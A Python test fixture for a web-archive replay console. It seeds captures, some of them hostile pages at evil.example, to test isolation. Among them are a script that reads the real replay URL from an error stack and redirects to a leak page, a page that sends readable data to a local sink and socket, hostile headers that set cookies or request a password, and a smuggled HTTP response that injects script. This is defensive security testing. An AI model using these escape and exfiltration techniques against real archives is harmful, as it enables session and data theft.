"""Fills a data folder for the replay tests, in a process of its own."""

from pathlib import Path

import brotli
from django.conf import settings
from django.core.management import call_command

from hemeroteca import warc
from hemeroteca.accounts import SYSTEM, Role, services
from hemeroteca.archive import services as archive
from hemeroteca.archive.capture_rows import NewCapture
from hemeroteca.warc import keys
from hemeroteca.warc.capture import Capture
from hemeroteca.warc.keys import index_key
from tests.console.conftest import PASSWORD
from tests.console.world import NOW, build
from tests.warc.making import exchange

FRONT = b"""<!doctype html><html><head><title>Portada %s</title><link rel="stylesheet" href="/estilo.css"></head>
<body><h1>Portada %s</h1><p id="ran">no script</p><a href="/economia/pan">El pan</a>
<script>document.getElementById("ran").textContent = "script of " + location.hostname;</script></body></html>"""

# Tries everything by itself and leaves what came of it in `window.results`.
ATTACK = Path(__file__).with_name("attack.html").read_text()

LEAK = Path(__file__).with_name("leak.html").read_text()
# pywb rewrites pages, not pictures: this leads to the page as its author wrote it. pywb's script tells a page that it
# is where it was, yet an error says where it really is, ticket and all.
LAUNCH = rb"""<script>var real = /[^\s(]+(?=mp_)/.exec(new Error().stack)[0];
location.replace(real + "im_/https://evil.example/leak")</script>"""
GIVEN = "Access-Control-Allow-Origin: *\r\n"

HOSTILE_HEADERS = (
    "Set-Cookie: hemeroteca_replay=1.x; Path=/\r\nSet-Cookie: sessionid=1; Domain=localhost\r\n"
    'Refresh: 0; url=https://live.example/\r\nWWW-Authenticate: Basic realm="your password"\r\n'
    'Report-To: {"endpoints":[{"url":"https://live.example/"}]}\r\nService-Worker-Allowed: /\r\n'
    "Access-Control-Allow-Origin: *\r\nClear-Site-Data: *\r\nX-Robots-Tag: all\r\n"
    "Link: <https://live.example/>; rel=preload\r\n"
)


def put(
    world,
    url,
    body,
    ms=NOW,
    content_type="text/html; charset=utf-8",
    status="200 OK",
    more="",
    sent=b"",
    kind="",
    page=None,
):
    """A capture with headers of one's own."""
    page = page or world.page(url)
    posted = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\r\n"
    head = f"HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\n{more}Content-Length: {len(body)}\r\n\r\n".encode()
    asked = posted if sent else b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    records = exchange(page.url, ms, "192.0.2.1", "http/1.1", asked, head, body, sent=sent)
    name, offset = world.writer.append(records.data)
    world.writer.sync()
    row = NewCapture(
        record_id=records.main.record_id, url=page.url, captured_ms=ms, status=int(status[:3]),
        mime=content_type.partition(";")[0], digest=records.digest, kind="response", version=True, warc_name=name,
        offset=offset, length=records.main.length, body_size=len(body), page_id=page.pk, crawl_id=world.crawl.pk,
        urlkey=index_key(keys.address(page.url, "POST", "application/json", sent)) if sent else "",
    )  # fmt: skip
    archive.insert_captures([row], world.writer.sizes())
    return page


def rendered(world, page, dom, ms=NOW):
    """What a browser made of a page."""
    capture = Capture(url=keys.DOM + page.url, captured_ms=ms, content_type="text/html; charset=utf-8", body=dom)
    records = warc.records(capture)
    name, offset = world.writer.append(records.data)
    world.writer.sync()
    row = NewCapture(
        record_id=records.main.record_id, url=keys.DOM + page.url, captured_ms=ms, status=0, mime="text/html",
        digest=records.digest, kind=records.main.kind, version=True, warc_name=name, offset=offset,
        length=records.main.length, body_size=len(dom),
    )  # fmt: skip
    archive.insert_captures([row], world.writer.sizes())


def attack(port):
    """The hostile page, against a console on that port by both its names."""
    return ATTACK.replace("CONSOLES", f'["http://127.0.0.1:{port}", "http://localhost:{port}"]').encode()


def leak(sink, stun):
    """The page that carries off what it can read, to a server and a socket of ours."""
    return LEAK.replace("SINK", f"http://127.0.0.1:{sink}").replace("STUN", str(stun)).encode()


def fill(port, sink=0, stun=0):
    settings.INSTANCE.create()
    call_command("migrate", verbosity=0)
    world = build(settings.INSTANCE)
    front = put(world, "https://diario.example/portada", FRONT % (b"1", b"1"))
    world.capture(front, FRONT % (b"2", b"2"), NOW + 86_400_000)
    world.writer.rotate()
    warc.pack_as("-")
    put(world, "https://diario.example/zst", b"<title>Z</title><p>packed with zstandard")
    world.writer.rotate()
    warc.pack_as("")
    api = "https://diario.example/graphql"
    first, second = b'{"q": {"page": 1}, "ok": true}', b'{"q": {"page": 2}, "ok": true}'
    asked = put(world, api, b'{"news": "first"}', content_type="application/json", sent=first)
    put(world, api, b'{"news": "second"}', content_type="application/json", sent=second, page=asked)
    put(world, "https://diario.example/estilo.css", b"h1 { color: rgb(200, 0, 0) }", content_type="text/css")
    minute = put(world, "https://diario.example/minuto", b"<p>first of a minute")
    world.capture(minute, b"<p>second of a minute", NOW + 5_000)
    put(world, "https://diario.example/lost-link", b"<a href='/nowhere'>nowhere</a>")
    shell = put(world, "https://diario.example/app", b"<title>App</title><div id=app></div>")
    rendered(world, shell, b"<html><head><title>App</title></head><body><p>made by a script</p></body></html>")
    put(world, "https://evil.example/attack", attack(port))
    json = "application/json"
    put(world, "https://evil.example/data.json", b'{"of": "evil.example"}', content_type=json)
    put(world, "https://cdn.example/given.json", b'{"given": 1}', content_type=json, more=GIVEN)
    put(world, "https://cdn.example/kept.json", b'{"kept": 1}', content_type=json)
    put(world, "https://evil.example/launch", LAUNCH)
    put(world, "https://evil.example/leak", leak(sink, stun))
    put(world, "https://evil.example/sw.js", b"self.x = 1", content_type="text/javascript")
    put(world, "https://evil.example/headers", b"<p>headers", more=HOSTILE_HEADERS)
    packed = brotli.compress(b"<p>packed with brotli")
    put(world, "https://diario.example/br", packed, more="Content-Encoding: br\r\n")
    put(world, "https://evil.example/away", b"", status="302 Found", more="Location: https://live.example/x\r\n")
    smuggled = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 26\r\n\r\n<script>hacked=1</script>\n"
    put(world, "https://evil.example/answer", smuggled, content_type="text/html")
    for status in ("101 Switching Protocols", "204 No Content", "304 Not Modified"):
        put(world, f"https://evil.example/{status[:3]}", b"not empty", status=status)
    services.add_user(SYSTEM, "eva", Role.DIRECTOR, PASSWORD)
